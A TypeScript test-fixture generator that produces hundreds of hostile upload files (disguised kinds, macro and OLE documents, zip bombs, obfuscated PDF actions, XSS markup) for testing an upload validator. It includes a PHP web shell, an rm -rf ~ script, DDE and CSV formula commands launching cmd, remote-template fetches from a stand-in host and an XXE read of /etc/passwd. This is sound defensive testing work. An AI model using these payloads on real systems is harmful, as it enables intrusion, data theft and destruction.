import { deflateSync } from "node:zlib";
import type { UploadProblem } from "~/attachments/attachment";
import {
  aJpeg,
  anOfficeFile,
  anOpenDocument,
  anRtf,
  aPdf,
  aPdfStream,
  aPng,
  aZip,
  contentTypes,
  officeEntries,
  officeMain,
  openDocumentEntries,
  plainPdf,
  relationship,
  relationships,
  wordDocument,
} from "./files";

/** A file that must not be taken, and the reasons that may be given. */
export interface HostileFile {
  /** What it tries. */
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
  readonly problems: readonly UploadProblem[];
}

const office = ["docx", "xlsx", "pptx"] as const;
const latin = (text: string) => Buffer.from(text, "latin1");

/** Some 500 of them, always the same. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const made = [
    await otherKinds(),
    endings(),
    (await Promise.all(office.map(officeTricks))).flat(),
    await openDocumentTricks(),
    await archiveTricks(),
    pdfTricks(),
    rtfTricks(),
    textTricks(),
    imageTricks(),
  ].flat();
  return made.map((file, index) => ({ ...file, name: file.name.replace("#", String(index)) }));
}

/** Every kind's name on the bytes of another. */
async function otherKinds(): Promise<HostileFile[]> {
  const bytes: Record<string, Buffer> = {
    exe: Buffer.concat([latin("MZ\u0090\0\u0003\0\0\0\u0004\0\0\0\u00ff\u00ff"), Buffer.alloc(200)]),
    elf: Buffer.concat([latin("\u007fELF\u0002\u0001\u0001\0"), Buffer.alloc(200)]),
    class: Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34]), Buffer.alloc(200)]),
    cfb: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)]),
    gif: Buffer.concat([latin("GIF89a\u0001\0\u0001\0\0\0\0;"), Buffer.alloc(100)]),
    gzip: Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), Buffer.alloc(100)]),
    sevenZip: Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(100)]),
    html: latin("<!DOCTYPE html><html><script>alert(1)</script></html>"),
    svg: latin('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'),
    xml: latin('<?xml version="1.0"?><x>&amp;</x>'),
    php: latin("<?php system($_GET[0]); ?>"),
    shell: latin("#!/bin/sh\nrm -rf ~\n"),
    postscript: latin("%!PS-Adobe-3.0\n(%pipe%id) (w) file\n"),
    mhtml: latin("MIME-Version: 1.0\nContent-Type: text/html\n\n<script>1</script>"),
    zip: await aZip({ "a.txt": "a" }),
    pdf: aPdf(),
    docx: await anOfficeFile("docx"),
    xlsx: await anOfficeFile("xlsx"),
    pptx: await anOfficeFile("pptx"),
    odt: await anOpenDocument(),
    rtf: anRtf(),
    png: aPng(),
    jpeg: aJpeg(),
  };
  const kinds = ["pdf", "docx", "xlsx", "pptx", "odt", "rtf", "txt", "csv", "png", "jpg"];
  const same = (kind: string, content: string) => kind === content || (kind === "jpg" && content === "jpeg");
  return kinds.flatMap((kind) =>
    Object.entries(bytes)
      .filter(([content]) => !same(kind, content))
      .map(([content, its]) => ({
        what: `${content} as ${kind}`,
        name: `file-#.${kind}`,
        bytes: its,
        problems: ["mismatch", "encoding", "password", "damaged"] as const,
      })),
  );
}

function endings(): HostileFile[] {
  const names = [
    ..."exe com scr bat cmd ps1 js jse vbs wsf hta msi jar lnk url reg html htm svg xml php docm xlsm pptm dotm xlam doc xls ppt rtfd zip 7z iso eml swf".split(
      " ",
    ),
    "pdf.exe",
    "docx.js",
    "pdf .html",
    "pdf\u202efdp.exe",
    "txt/../../evil.exe",
    "pdf.",
    "exe.",
  ];
  return names
    .filter((ending) => ending !== "pdf.")
    .map((ending) => ({
      what: `ending ${ending}`,
      name: `file-#.${ending}`,
      bytes: aPdf(),
      problems: ["kind"],
    }));
}

async function officeTricks(kind: (typeof office)[number]): Promise<HostileFile[]> {
  const [main, type] = officeMain[kind];
  const folder = main.split("/")[0];
  const base = officeEntries(kind);
  const list: [what: string, entries: Record<string, string | Buffer>, ...problems: UploadProblem[]][] = [
    ["macros", { [`${folder}/vbaProject.bin`]: "x" }, "macros"],
    ["macros in capitals", { [`${folder}/VBAPROJECT.BIN`]: "x" }, "macros"],
    ["macros elsewhere", { "other/vbaData.xml": "<x/>" }, "macros"],
    ["a macro sheet", { "xl/macrosheets/sheet1.xml": "<x/>" }, "macros"],
    [
      "a macro-enabled main type",
      { "[Content_Types].xml": contentTypes(main, type.replace(/main/, "macroEnabled.main")) },
      "macros",
      "mismatch",
    ],
    [
      "a macro type by ending",
      {
        "[Content_Types].xml": contentTypes(
          main,
          type,
          '<Default Extension="jpg" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
      },
      "macros",
    ],
    ["another main type", { "[Content_Types].xml": contentTypes(main, "application/xml") }, "mismatch"],
    ["no content types", { "[Content_Types].xml": "" }, "damaged", "mismatch"],
    [
      "content types with a document type",
      { "[Content_Types].xml": `<!DOCTYPE x [<!ENTITY a "b">]>${contentTypes(main, type).slice(56)}` },
      "damaged",
    ],
    [
      "content types in UTF-16",
      { "[Content_Types].xml": Buffer.from(`\ufeff${contentTypes(main, type)}`, "utf16le") },
      "damaged",
    ],
    [
      "two main parts",
      {
        "_rels/.rels": relationships(
          relationship("officeDocument", main),
          relationship("officeDocument", "b.xml"),
        ),
      },
      "mismatch",
    ],
    ["an OLE object", { [`${folder}/embeddings/oleObject1.bin`]: "x" }, "embedded"],
    ["a program", { [`${folder}/embeddings/setup.exe`]: "MZ" }, "embedded"],
    ["a program elsewhere", { [`${folder}/media/image1.exe`]: "MZ" }, "embedded"],
    ["a script", { "docProps/a.js": "x" }, "embedded"],
    ["a shortcut", { "a.lnk": "x" }, "embedded"],
    ["a control", { [`${folder}/activeX/activeX1.xml`]: "<x/>" }, "embedded"],
    [
      "an OLE type",
      {
        "[Content_Types].xml": contentTypes(
          main,
          type,
          '<Default Extension="png" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        ),
      },
      "embedded",
    ],
    [
      "a file inside a file inside a file",
      {
        [`${folder}/embeddings/a.docx`]: await aZip({
          ...officeEntries("docx"),
          "word/embeddings/b.docx": await anOfficeFile("docx"),
        }),
      },
      "embedded",
    ],
    [
      "macros in an embedded table",
      { [`${folder}/embeddings/a.xlsx`]: await aZip({ ...officeEntries("xlsx"), "xl/vbaProject.bin": "x" }) },
      "macros",
    ],
    ["something else as an embedded table", { [`${folder}/embeddings/a.xlsx`]: "MZ" }, "damaged"],
  ];
  const fetching: [string, string, string][] = [
    ["attachedTemplate", "https://example.org/evil.dotm", "External"],
    ["attachedTemplate", "\\\\example.org\\share\\evil.dotm", "External"],
    ["attachedTemplate", "file://example.org/evil.dotm", "external"],
    ["attachedTemplate", "https://example.org/evil.dotm", ""],
    ["frame", "https://example.org/", "External"],
    ["subDocument", "https://example.org/a.docx", "External"],
    ["oleObject", "mhtml:https://example.org/a.html!x-usc:https://example.org/a.html", "External"],
    ["image", "https://example.org/pixel.png", "External"],
    ["image", "\\\\example.org\\a\\b.png", "External"],
    ["audio", "https://example.org/a.mp3", "External"],
    ["customUI", "https://example.org/a.xml", "External"],
  ];
  for (const [relation, target, mode] of fetching) {
    const rels = relationships(relationship(relation, target, mode));
    list.push([`${relation} ${target} ${mode}`, { [`${folder}/_rels/a.xml.rels`]: rels }, "external"]);
  }
  if (kind === "docx") {
    const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
    const field = (...runs: string[]) =>
      wordDocument(
        `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map(run).join("")}<w:r><w:fldChar w:fldCharType="separate"/></w:r></w:p>`,
      );
    const fields: [string, string][] = [
      ["DDEAUTO", field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ")],
      ["DDE in pieces", field(" D", "DE", " c:\\\\a &quot;b&quot;")],
      ["DDE by numbers", field(" QUOTE 68 68 69 ")],
      [
        "a simple field",
        wordDocument('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;https://example.org/a&quot; "/></w:p>'),
      ],
      ["an included picture", field(" INCLUDEPICTURE &quot;https://example.org/a.png&quot; \\d ")],
    ];
    for (const [what, document] of fields) list.push([what, { [main]: document }, "external"]);
  }
  if (kind === "xlsx") {
    const link = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml";
    for (const element of ["ddeLink", "oleLink"]) {
      list.push([
        element,
        {
          "[Content_Types].xml": contentTypes(
            main,
            type,
            `<Override PartName="/xl/a.xml" ContentType="${link}"/>`,
          ),
          "xl/a.xml": `<externalLink><${element} ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
        },
        "external",
      ]);
    }
  }
  return Promise.all(
    list.map(async ([what, entries, ...problems]) => ({
      what: `${kind}: ${what}`,
      name: `file-#.${kind}`,
      bytes: await aZip({ ...base, ...entries }),
      problems,
    })),
  );
}

async function openDocumentTricks(): Promise<HostileFile[]> {
  const base = openDocumentEntries();
  const content = (inner: string) => base["content.xml"]?.replace("<text:p>", `${inner}<text:p>`) ?? "";
  const manifest = (inner: string) =>
    base["META-INF/manifest.xml"]?.replace("</manifest:manifest>", `${inner}</manifest:manifest>`) ?? "";
  const list: [what: string, entries: Record<string, string>, ...problems: UploadProblem[]][] = [
    ["Basic", { "Basic/Standard/Module1.xml": "<x/>" }, "macros"],
    ["Python", { "Scripts/python/a.py": "x" }, "macros"],
    [
      "an event",
      { "content.xml": content('<script:event-listener script:language="ooo:script"/>') },
      "macros",
    ],
    [
      "an event's script",
      { "content.xml": content('<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>') },
      "macros",
    ],
    ["an OLE object", { "Object 1": "x" }, "embedded"],
    ["an OLE element", { "content.xml": content("<draw:object-ole/>") }, "embedded"],
    ["a plug-in", { "content.xml": content("<draw:plugin/>") }, "embedded"],
    ["an applet", { "styles.xml": "<a><draw:applet/></a>" }, "embedded"],
    ["a program", { "Pictures/a.exe": "MZ" }, "embedded"],
    [
      "a frame",
      { "content.xml": content('<draw:floating-frame xlink:href="https://example.org"/>') },
      "external",
    ],
    [
      "a picture from elsewhere",
      { "content.xml": content('<draw:image xlink:href="https://example.org/a.png"/>') },
      "external",
    ],
    [
      "a picture from a share",
      { "content.xml": content('<draw:image xlink:href="//example.org/a.png"/>') },
      "external",
    ],
    [
      "a linked section",
      { "content.xml": content('<text:section-source xlink:href="https://example.org/a.odt"/>') },
      "external",
    ],
    ["DDE", { "content.xml": content('<office:dde-source office:dde-application="cmd"/>') }, "external"],
    [
      "a password",
      {
        "META-INF/manifest.xml": manifest(
          "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>",
        ),
      },
      "password",
    ],
    [
      "a script in the manifest",
      {
        "META-INF/manifest.xml": manifest(
          '<manifest:file-entry manifest:media-type="application/vnd.sun.star.basic-library"/>',
        ),
      },
      "macros",
    ],
    [
      "a document type",
      { "content.xml": `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>` },
      "damaged",
    ],
    ["another media type", { mimetype: "application/vnd.oasis.opendocument.graphi" }, "mismatch"],
  ];
  return Promise.all(
    list.map(async ([what, entries, ...problems]) => ({
      what: `odt: ${what}`,
      name: "file-#.odt",
      bytes: await anOpenDocument({ ...base, ...entries }),
      problems,
    })),
  );
}

/** Replaces text in an archive's headers, byte for byte. */
function patched(bytes: Buffer, change: (copy: Buffer) => void): Buffer {
  const copy = Buffer.from(bytes);
  change(copy);
  return copy;
}

const LOCAL = Buffer.from("PK\u0003\u0004", "latin1");
const CENTRAL = Buffer.from("PK\u0001\u0002", "latin1");

function eachHeader(bytes: Buffer, signature: Buffer, visit: (at: number, index: number) => void): void {
  let index = 0;
  for (let at = bytes.indexOf(signature); at !== -1; at = bytes.indexOf(signature, at + 1))
    visit(at, index++);
}

async function archiveTricks(): Promise<HostileFile[]> {
  const files: HostileFile[] = [];
  const add = (what: string, kind: string, bytes: Buffer, ...problems: UploadProblem[]) =>
    files.push({ what: `${kind}: ${what}`, name: `file-#.${kind}`, bytes, problems });
  for (const kind of [...office, "odt"] as const) {
    const entries: Record<string, string | Buffer> =
      kind === "odt" ? openDocumentEntries() : officeEntries(kind);
    const zip = (more: Record<string, string | Buffer>) =>
      aZip({ ...entries, ...more }, { stored: ["mimetype"] });
    const plain = await zip({});
    const big = await zip({ "media/a.png": Buffer.alloc(12 * 1024 * 1024) });
    add("a bomb", kind, big, "bomb");
    const small = await zip({ "media/a.png": Buffer.alloc(2 * 1024 * 1024) });
    const lying = (signature: Buffer, offset: number, size: number) =>
      patched(small, (copy) =>
        eachHeader(copy, signature, (at) => {
          if (copy.readUInt32LE(at + offset) === 2 * 1024 * 1024) copy.writeUInt32LE(size, at + offset);
        }),
      );
    add("a directory that lies about a size", kind, lying(CENTRAL, 24, 100), "bomb", "damaged");
    add("a directory that announces too much", kind, lying(CENTRAL, 24, 0xfffffff0), "bomb", "damaged");
    add("a directory that announces more", kind, lying(CENTRAL, 24, 3 * 1024 * 1024), "damaged");
    add(
      "a count that lies",
      kind,
      patched(plain, (copy) => copy.writeUInt16LE(60_000, copy.length - 12)),
      "bomb",
      "damaged",
    );
    const shared = patched(await zip({ "media/a.png": "aaaa", "media/b.png": "bbbb" }), (copy) => {
      let last = 0;
      eachHeader(copy, CENTRAL, (at) => {
        last = at;
      });
      // the last entry is said to lie where the first does
      copy.writeUInt32LE(0, last + 42);
    });
    add("entries in each other", kind, shared, "bomb", "damaged");
    for (const name of [
      "../../evil.xml",
      "/etc/evil.xml",
      "C:/evil/a.xml",
      "a\\..\\b.xml",
      "a/../../b.xml",
    ]) {
      const safe = "x".repeat(name.length);
      const bytes = patched(await zip({ [safe]: "x" }), (copy) => {
        for (let at = copy.indexOf(safe); at !== -1; at = copy.indexOf(safe, at + 1))
          copy.write(name, at, "latin1");
      });
      add(`an entry called ${name}`, kind, bytes, "damaged", "embedded");
    }
    const nul = patched(await zip({ "media/aaaa.png": "x" }), (copy) => {
      for (let at = copy.indexOf("aaaa.png"); at !== -1; at = copy.indexOf("aaaa.png", at + 1))
        copy.writeUInt8(0, at + 1);
    });
    add("a zero byte in a name", kind, nul, "damaged");
    const twice = patched(await zip({ "media/a.png": "x", "media/b.png": "y" }), (copy) => {
      for (let at = copy.indexOf("media/b.png"); at !== -1; at = copy.indexOf("media/b.png", at + 1))
        copy.write("media/A.png", at, "latin1");
    });
    add("one name twice", kind, twice, "damaged");
    const two = patched(await zip({ "media/a.png": "x" }), (copy) =>
      copy.write("media/b.png", copy.indexOf("media/a.png"), "latin1"),
    );
    add("a header of another name", kind, two, "damaged");
    const locked = patched(plain, (copy) => {
      eachHeader(copy, LOCAL, (at) => copy.writeUInt16LE(copy.readUInt16LE(at + 6) | 1, at + 6));
      eachHeader(copy, CENTRAL, (at) => copy.writeUInt16LE(copy.readUInt16LE(at + 8) | 1, at + 8));
    });
    add("locked entries", kind, locked, "password", "damaged");
    const method = patched(plain, (copy) =>
      eachHeader(copy, CENTRAL, (at) => copy.writeUInt16LE(12, at + 10)),
    );
    add("another compression", kind, method, "damaged");
    add("something in front", kind, Buffer.concat([LOCAL, Buffer.alloc(60), plain]), "mismatch", "damaged");
    add(
      "something behind",
      kind,
      Buffer.concat([plain, Buffer.from("<script>alert(1)</script>")]),
      "damaged",
    );
    add("cut in half", kind, plain.subarray(0, plain.length >> 1), "damaged");
    add(
      "many entries",
      kind,
      await zip(Object.fromEntries(Array.from({ length: 10_001 }, (_, index) => [`a/${index}.xml`, ""]))),
      "bomb",
    );
  }
  return files;
}

/** Ways to write a name so that a look at the bytes does not find it. */
const spelled: readonly [string, (name: string) => string][] = [
  ["plainly", (name) => name],
  ["first letter escaped", (name) => `#${hex(name, 0)}${name.slice(1)}`],
  ["last letter escaped", (name) => `${name.slice(0, -1)}#${hex(name, name.length - 1)}`],
  ["all escaped", (name) => [...name].map((_, index) => `#${hex(name, index)}`).join("")],
  [
    "escaped in capitals",
    (name) => [...name].map((_, index) => `#${hex(name, index).toUpperCase()}`).join(""),
  ],
];
const hex = (name: string, index: number) => name.charCodeAt(index).toString(16).padStart(2, "0");

function pdfTricks(): HostileFile[] {
  const files: HostileFile[] = [];
  const add = (what: string, bytes: Buffer, ...problems: UploadProblem[]) =>
    files.push({ what: `pdf: ${what}`, name: "file-#.pdf", bytes, problems });
  const page = plainPdf("Hello", "/OpenAction 6 0 R ");
  const actions: [string, (spell: (name: string) => string) => string, UploadProblem][] = [
    ["JavaScript", (spell) => `<< /S /${spell("JavaScript")} /JS (app.alert\\(1\\)) >>`, "script"],
    ["Launch", (spell) => `<< /S /${spell("Launch")} /F (cmd.exe) >>`, "script"],
    ["ImportData", (spell) => `<< /S /${spell("ImportData")} /F (a.fdf) >>`, "script"],
    ["GoToE", (spell) => `<< /S /${spell("GoToE")} /T << /R /C >> >>`, "embedded"],
    ["Rendition", (spell) => `<< /S /${spell("Rendition")} /OP 0 >>`, "embedded"],
    ["EmbeddedFile", (spell) => `<< /Type /${spell("EmbeddedFile")} >>`, "embedded"],
    ["EmbeddedFiles", (spell) => `<< /${spell("EmbeddedFiles")} 7 0 R >>`, "embedded"],
    ["FileAttachment", (spell) => `<< /Subtype /${spell("FileAttachment")} >>`, "embedded"],
    ["RichMedia", (spell) => `<< /Subtype /${spell("RichMedia")} >>`, "embedded"],
    ["XFA", (spell) => `<< /${spell("XFA")} 7 0 R >>`, "script"],
    ["a script of its own", (spell) => `<< /${spell("JS")} (app.alert\\(1\\)) >>`, "script"],
    ["Movie", (spell) => `<< /${spell("Subtype")} /${spell("Movie")} >>`, "embedded"],
  ];
  for (const [what, action, problem] of actions) {
    for (const [how, spell] of spelled) add(`${what}, ${how}`, aPdf([...page, action(spell)]), problem);
    const objects = latin(`6 0 7 60 ${action((name) => name).padEnd(58)} << /A 1 >>`);
    const flat = `/Type /ObjStm /N 2 /First 9`;
    const stream = (entries: string, data: Buffer) => aPdf([...page, "null", aPdfStream(entries, data)]);
    add(`${what}, compressed`, stream(`${flat} /Filter /FlateDecode`, deflateSync(objects)), problem);
    add(
      `${what}, compressed twice`,
      stream(`${flat} /Filter [/FlateDecode /Fl]`, deflateSync(deflateSync(objects))),
      problem,
    );
    add(
      `${what}, compressed and in digits`,
      stream(
        `${flat} /Filter [/ASCIIHexDecode /FlateDecode]`,
        latin(`${deflateSync(objects).toString("hex")}>`),
      ),
      problem,
    );
    const rows = Buffer.concat(
      Array.from({ length: Math.ceil(objects.length / 4) }, (_, row) =>
        Buffer.concat([
          Buffer.from([0]),
          Buffer.concat([objects, Buffer.alloc(4, " ")]).subarray(row * 4, row * 4 + 4),
        ]),
      ),
    );
    add(
      `${what}, compressed in rows`,
      stream(`${flat} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>`, deflateSync(rows)),
      problem,
    );
    add(
      `${what}, in a stream without a type`,
      stream(`/N 2 /#46irst 9 /Filter /Fl#61teDecode`, deflateSync(objects)),
      problem,
    );
  }
  const script = "<< /S /JavaScript /JS (x) >>";
  const flat = "/Type /ObjStm /N 1 /First 4";
  const stream = (entries: string, data: Buffer) => aPdf([...page, "null", aPdfStream(entries, data)]);
  add("behind a filter of old", stream(`${flat} /Filter /LZWDecode`, Buffer.alloc(40)), "damaged");
  add(
    "behind a filter that is named elsewhere",
    stream(`${flat} /Filter 8 0 R`, deflateSync(latin(script))),
    "damaged",
  );
  add(
    "with parameters named elsewhere",
    stream(`${flat} /Filter /FlateDecode /DecodeParms 8 0 R`, deflateSync(latin(script))),
    "damaged",
  );
  add(
    "a stream that does not unpack",
    stream(`${flat} /Filter /FlateDecode`, Buffer.from("x".repeat(60))),
    "damaged",
  );
  add(
    "a stream with a wrong check",
    stream(
      `${flat} /Filter /FlateDecode`,
      patched(deflateSync(latin(`6 0 ${script}`)), (copy) => copy.writeUInt32BE(1, copy.length - 4)),
    ),
    "damaged",
  );
  add(
    "a bomb in an object stream",
    stream(`${flat} /Filter /FlateDecode`, deflateSync(Buffer.alloc(40 * 1024 * 1024, " "))),
    "bomb",
  );
  add("inside a string", aPdf([...page, `(\n9 0 obj ${script} endobj)`]), "damaged");
  add("inside a comment", aPdf([...page, `null %9 0 obj ${script} endobj`]), "damaged");
  add("inside a stream", stream("/X 1", latin(`9 0 obj\n${script}\nendobj`)), "damaged", "script");
  add(
    "inside a hexadecimal string's neighbor",
    aPdf([...page, `<41 9 0 obj ${script}>`]),
    "damaged",
    "script",
  );
  add(
    "in a stream whose length is too long",
    aPdf([...page, `<< /Length 60 >>\nstream\nx\nendstream\nendobj\n9 0 obj ${script} endobj\nendstream`]),
    "damaged",
    "script",
  );
  add(
    "a lock that is not there",
    aPdf(
      [...page, "null", aPdfStream(`${flat} /Filter /FlateDecode`, deflateSync(latin(`6 0 ${script}`)))],
      "/Encrypt << /Filter /None >> ",
    ),
    "script",
    "damaged",
  );
  add("a comment between the words", aPdf([...page, "<< /S%\n/JavaScript%x\n/JS%(\n(x) >>"]), "script");
  add("no blanks at all", aPdf([...page, "<</S/JavaScript/JS(x)>>"]), "script");
  add("the kind of action elsewhere", aPdf([...page, "<< /S 7 0 R >>", "/JavaScript"]), "script");
  add("no objects", latin("%PDF-1.7\nHello\n%%EOF"), "damaged");
  add("values too deep", aPdf([...page, "[".repeat(5_000) + "]".repeat(5_000)]), "damaged");
  add("a string without an end", aPdf([...page, "((("]), "damaged");
  add("something in front", Buffer.concat([latin("<script>alert(1)</script>\n"), aPdf()]), "mismatch");
  return files;
}

function rtfTricks(): HostileFile[] {
  const inner: [string, UploadProblem][] = [
    ["{\\object\\objemb{\\*\\objdata 0105}}", "embedded"],
    ["{\\object\\objautlink\\objupdate}", "embedded"],
    ["{\\*\\objdata 01050000}", "embedded"],
    ["{\\*\\objclass Equation.3}", "embedded"],
    ["{\\objocx}", "embedded"],
    ["{\\objhtml}", "embedded"],
    ["{\\objlink}", "embedded"],
    ["{\\bin5 \\object}", "embedded"],
    ["\\OBJDATA 00", "embedded"],
    ["{\\pict\\objupdate}", "embedded"],
    ["{\\*\\template https://example.org/a.dotm}", "external"],
    ["{\\*\\template \\\\\\\\example.org\\\\a.dotm}", "external"],
    ["{\\*\\template \\'68ttp://example.org/a}", "external"],
    ["{\\*\\template file:///c:/a.dotm}", "external"],
    ["{\\field{\\*\\fldinst DDEAUTO c:\\\\a.exe}}", "external"],
    ["{\\field{\\*\\fldinst {D}{D}{E} c:\\\\a}}", "external"],
    ["{\\field{\\*\\fldinst {\\b D}\\'44E c:\\\\a}}", "external"],
    ['{\\field{\\*\\fldinst INCLUDEPICTURE "https://example.org/a.png"}}', "external"],
    ['{\\field{\\*\\fldinst INCLUDETEXT "https://example.org/a"}}', "external"],
    ["{\\field{\\*\\fldinst \\u68?\\u68?\\u69? c:\\\\a}}", "external"],
  ];
  return [
    ...inner.map(([what, problem]) => ({
      what: `rtf: ${what}`,
      name: "file-#.rtf",
      bytes: anRtf(what),
      problems: [problem],
    })),
    { what: "rtf: another version", name: "file-#.rtf", bytes: latin("{\\rt"), problems: ["mismatch"] },
  ];
}

function textTricks(): HostileFile[] {
  const files: HostileFile[] = [];
  const add = (what: string, name: string, bytes: Buffer | string, ...problems: UploadProblem[]) =>
    files.push({ what, name, bytes: typeof bytes === "string" ? Buffer.from(bytes) : bytes, problems });
  for (const ending of ["txt", "csv"]) {
    for (const markup of [
      "<script>alert(1)</script>",
      "  \n<SVG onload=alert(1)>",
      "\ufeff<html>",
      "<iframe src=javascript:1>",
      "<!-- x --><script>",
      "<body onload=alert(1)>",
      "<meta http-equiv=refresh>",
      "<a href=javascript:1>x</a>",
      "<img src=x onerror=alert(1)>",
      "[InternetShortcut]\nURL=file://example.org/a",
    ]) {
      add(`${ending}: ${markup}`, `file-#.${ending}`, markup, "mismatch");
    }
    add(
      `${ending}: HTML in UTF-16`,
      `file-#.${ending}`,
      Buffer.from("\ufeff<html><script>", "utf16le"),
      "mismatch",
    );
    add(`${ending}: a zero byte`, `file-#.${ending}`, "a\0b", "encoding");
    add(`${ending}: an escape sequence`, `file-#.${ending}`, "a\u001b]0;x\u0007", "encoding");
    add(`${ending}: a control of eight bits`, `file-#.${ending}`, "a\u009b31m", "encoding");
    add(
      `${ending}: no encoding at all`,
      `file-#.${ending}`,
      Buffer.from([0x61, 0x81, 0x8d, 0x62]),
      "encoding",
    );
    add(
      `${ending}: half of UTF-16`,
      `file-#.${ending}`,
      Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0x61, 0x00]),
      "encoding",
    );
    add(`${ending}: a zero byte far behind`, `file-#.${ending}`, `${"a\n".repeat(200_000)}\0`, "encoding");
  }
  for (const cell of [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.org","x")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    '=WEBSERVICE("https://example.org/"&A1)',
    '=IMPORTXML("https://example.org","//a")',
    " =1+cmd|'x'!A1",
  ]) {
    add(`csv: ${cell}`, "file-#.csv", `name,amount\nAna,"${cell.replaceAll('"', '""')}"\n`, "formula");
    add(`csv: ${cell} first`, "file-#.csv", `${cell}\n`, "formula");
    add(`csv: ${cell} after a semicolon`, "file-#.csv", `a;${cell};b\n`, "formula");
  }
  add("empty", "file-#.txt", "", "empty");
  add("empty", "file-#.pdf", "", "empty");
  return files;
}

function imageTricks(): HostileFile[] {
  const png = aPng();
  const jpeg = aJpeg();
  const end = Buffer.concat([Buffer.from("PK\u0005\u0006", "latin1"), Buffer.alloc(18)]);
  const list: [string, string, Buffer, ...UploadProblem[]][] = [
    ["a picture of too many pixels", "png", aPng(60_000, 60_000), "dimensions"],
    ["a side too long", "png", aPng(2_000_000_000, 1), "dimensions"],
    ["no pixels", "png", aPng(0, 5), "damaged"],
    ["cut short", "png", png.subarray(0, 40), "damaged"],
    ["cut in its header", "png", png.subarray(0, 20), "damaged", "mismatch"],
    ["a script behind", "png", Buffer.concat([png, Buffer.from("<script>alert(1)</script>")]), "mismatch"],
    ["an archive behind", "png", Buffer.concat([png, end]), "mismatch"],
    ["a chunk too long", "png", patched(png, (copy) => copy.writeUInt32BE(0x7fffffff, 33)), "damaged"],
    ["a picture of too many pixels", "jpg", aJpeg(65_000, 65_000), "dimensions"],
    ["no pixels", "jpg", aJpeg(0, 0), "damaged"],
    ["cut short", "jpg", jpeg.subarray(0, 18), "damaged", "mismatch"],
    ["no frame", "jpeg", Buffer.concat([jpeg.subarray(0, 20), Buffer.from([0xff, 0xd9])]), "damaged"],
    ["an archive behind", "jpeg", Buffer.concat([jpeg, end]), "mismatch"],
    ["a segment of nothing", "jpeg", patched(jpeg, (copy) => copy.writeUInt16BE(0, 4)), "damaged"],
  ];
  return list.map(([what, ending, bytes, ...problems]) => ({
    what: `${ending}: ${what}`,
    name: `file-#.${ending}`,
    bytes,
    problems,
  }));
}
